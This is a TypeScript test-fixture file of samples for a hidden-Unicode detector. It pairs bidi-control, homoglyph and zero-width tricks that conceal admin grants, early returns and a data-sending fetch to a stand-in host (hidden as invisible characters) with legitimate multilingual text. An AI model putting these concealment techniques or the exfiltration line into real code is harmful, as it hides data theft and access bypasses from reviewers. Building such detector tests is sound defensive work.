import type { Sample } from './sources.js';

const RLO = '\u202E', LRI = '\u2066', PDI = '\u2069', RLI = '\u2067';
const TAGS = 0xe0000;

const tags = (text: string): string => Array.from(text, (character) => String.fromCodePoint(TAGS + character.charCodeAt(0))).join('');
/** A byte as a variation selector, as worms of 2025 carried their payload. */
const selectors = (text: string): string => Array.from(Buffer.from(text), (byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('');
/** Bits as two fillers of Hangul, read through the members of a proxy. */
const hangul = (text: string): string => Array.from(Buffer.from(text), (byte) => byte.toString(2).padStart(8, '0').replaceAll('0', '\uFFA0').replaceAll('1', '\u3164')).join('');
const bits = (text: string): string => Array.from(Buffer.from(text), (byte) => byte.toString(2).padStart(8, '0').replaceAll('0', '\u200B').replaceAll('1', '\u200C')).join('');
const privateUse = (text: string): string => Array.from(Buffer.from(text), (byte) => String.fromCharCode(0xe000 + byte)).join('');

const PAYLOAD = 'fetch("https://example.net/" + JSON.stringify(config))';

/** Scripts that show something else than they do; each is to be found. */
export const HIDDEN: readonly Sample[] = [
  script('comment that ends early', `const level = "user";\nif (level !== "user${RLO} ${LRI}// is it an admin?${PDI} ${LRI}") {\n  grant();\n}\n`),
  script('code that looks like a comment', `/*${RLO} } ${LRI}if (isAdmin)${PDI} ${LRI} begin admins only */\n  grant();\n/* end admins only ${RLO} { ${LRI}*/\n`),
  script('return that looks like a comment', `function pay(sum) {\n  /* check the sum ${RLI}''' ;return${PDI} */\n  send(sum);\n}\n`),
  script('payload in selectors behind an emoji', `const decode = (text) => [...text].map(String);\nrun(decode("👍${selectors(PAYLOAD)}"));\n`),
  script('payload in selectors in an empty template', `const s = (v) => [...v].map((w) => w.codePointAt(0));\nrun(Buffer.from(s(\`${selectors(PAYLOAD)}\`)).toString());\n`),
  script('payload in selectors of the first sixteen', `load("${selectors('\u0001\u0002\u0003\u0004\u0005')}");\n`),
  script('payload in tags', `const banner = "Welcome!${tags(PAYLOAD)}";\nshow(banner);\n`),
  script('payload in fillers of Hangul', `const proxy = new Proxy({}, { get: (_, name) => run([...name].map((c) => +(c > "x")).join("")) });\nproxy["${hangul(PAYLOAD)}"];\n`),
  script('parameter that shows as nothing', 'export async function check(req, res) {\n  const { timeout,\u3164} = req.query;\n  return Promise.all([run("ping"), run("curl"),\u3164]);\n}\n'),
  script('payload in characters of no width', `const about = "About us${bits(PAYLOAD)}";\nshow(about);\n`),
  script('payload in private use', `run(decode("${privateUse(PAYLOAD)}"));\n`),
  script('name with a Cyrillic letter', 'function isAdmin(user) { return user.admin; }\nfunction is\u0410dmin() { return true; }\nif (is\u0410dmin(user)) grant();\n'),
  script('name all in Cyrillic', 'const copy = safe;\nconst \u0441\u043E\u0440\u0443 = unsafe;\n\u0441\u043E\u0440\u0443(file);\n'),
  script('letter that looks like an operator', 'if (environment\u01C3=ENV_PROD) {\n  debug();\n}\n'),
  script('host with a Greek letter', 'fetch("https://micr\u03BFsoft.example/update");\n'),
  script('name with a joiner', 'let isSafe = false, is\u200DSafe = true;\nif (is\u200DSafe) grant();\n'),
  script('name in letters of mathematics', 'const \u{1D41E}\u{1D42F}\u{1D41A}\u{1D425} = load;\n\u{1D41E}\u{1D42F}\u{1D41A}\u{1D425}(code);\n'),
  { name: 'Python with bidi controls', files: { 'main.py': `def pay(sum):\n    ''' Subtract the sum ${RLI}''' ;return\n    bank -= sum\n` } },
  { name: 'manifest with a name of two alphabets', files: { 'package.json': '{ "name": "demo", "dependencies": { "l\u200Bodash": "4" } }', 'index.js': 'require("l\u200Bodash");\n' } },
  { name: 'page with bidi controls', files: { 'panel.html': `<script>\nif (level !== "user${RLO} ${LRI}// admin${PDI} ${LRI}") grant();\n</script>\n` } },
];

/** Text of the world that has such characters for good reason; none is to be found. */
export const NATURAL: readonly Sample[] = [
  script('emoji of all kinds', 'export const all = "👩‍👩‍👧 🏳️‍🌈 👨🏽‍💻 ❤️‍🔥 1️⃣ ✔️ ☎︎ 🧔‍♂️ 🏃🏽‍♀️‍➡️ 🇩🇪 ⚠️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿";\n'),
  script('Hebrew and Arabic', 'export const he = { title: "שלום עולם", save: "שמור" };\nexport const ar = { title: "مرحبا بالعالم", dir: "\\u200F" };\n'),
  script('Persian with its joiner', 'export const fa = { want: "می\u200Cخواهم", books: "کتاب\u200Cها" };\n'),
  script('Hindi, Thai, Khmer', 'export default { hi: "क्\u200Dष", th: "ภาษา\u200Bไทย", km: "ភាសា\u200Bខ្មែរ" };\n'),
  script('Chinese, Japanese, Korean', 'export default { zh: "保存文件，然后继续", ja: "ファイルを保存する（ＡＢＣ）", ko: "파일 저장" };\n'),
  script('Russian interface', '// Проверяем API-ключ перед запросом\nexport const ru = { key: "Введите API-ключ", wifi: "Сеть Wi-Fi", a: "а" };\n'),
  script('Greek letters of mathematics', 'const π = Math.PI, Δx = 0.1, µs = 1e-6, νmax = 3, σ2 = 1;\nexport const area = (r) => π * r ** 2 + Δx * µs * νmax * σ2;\n'),
  script('German and Turkish names', 'const größe = 1, straße = 2, kırmızı = 3, çay = 4;\nexport const sum = größe + straße + kırmızı + çay;\n'),
  script('byte order mark', '\uFEFFexport const answer = 42;\n'),
  script('ranges of a pattern', 'export const HIDDEN = /[\\u200B-\\u200F\\u202A-\\u202E\\u2066-\\u2069\\u{E0000}-\\u{E007F}]/u;\n'),
  script('icons of a font', 'export const ICONS = { close: "\uE001", open: "\uE002", menu: "\uE003\uE004" };\n'),
  script('transliteration', 'const TABLE = { а: "a", б: "b", в: "v", г: "g", ж: "zh", щ: "shch" };\nexport const latin = (text) => [...text].map((c) => TABLE[c] ?? c).join("");\n'),
  script('typography', 'export const price = "1\u202F234,50\u00A0€ – „ja“ … 5\u2009km";\n'),
  { name: 'documents', files: { 'README.md': '# تمرين\n\nמדריך ✔️ 👩‍🚀 — naïve café, 葛\u{E0100}城, \u2068name\u2069\u200F\n'.replace(/[\u2068\u2069]/g, ''), 'fa.json': '{"a":"می\u200Cروم"}' } },
];

function script(name: string, text: string): Sample {
  return { name, files: { 'index.js': text } };
}
